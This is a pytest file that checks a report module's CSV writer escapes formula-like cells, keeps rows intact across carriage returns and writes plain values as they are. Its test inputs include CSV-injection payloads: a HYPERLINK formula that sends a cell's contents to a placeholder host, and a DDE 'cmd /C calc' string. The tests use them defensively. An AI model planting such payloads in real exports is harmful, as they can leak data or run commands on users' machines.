"""What every report's CSV shares: its cells (`plain_cell`), read back as a spreadsheet would read them."""

from __future__ import annotations

import csv
import io

import pytest

from sloplane.evaluator.history.report_files import csv_text


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://x.example/?"&A2,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(text: str) -> None:
    """A revision, a pipeline or a break-glass reason is anyone's text with a gate token (OWASP: CSV injection)."""
    (header, row) = list(csv.reader(io.StringIO(csv_text(["release", "events"], [[text, -1.5]]), newline="")))
    assert header == ["release", "events"]
    assert row == ["'" + text.replace("\r", "\n"), "-1.5"]  # behind a quote; a negative number stays a number


def test_a_carriage_return_inside_text_keeps_the_row_whole() -> None:
    rows = list(csv.reader(io.StringIO(csv_text(["reason"], [["fix\rrolled forward"]]), newline="")))
    assert rows == [["reason"], ["fix\nrolled forward"]]


def test_plain_text_numbers_none_and_booleans_are_written_as_they_are() -> None:
    written = csv_text(["a", "b", "c", "d"], [["v2 (fix)", 0.25, None, True]])
    assert written == "a,b,c,d\nv2 (fix),0.25,,true\n"
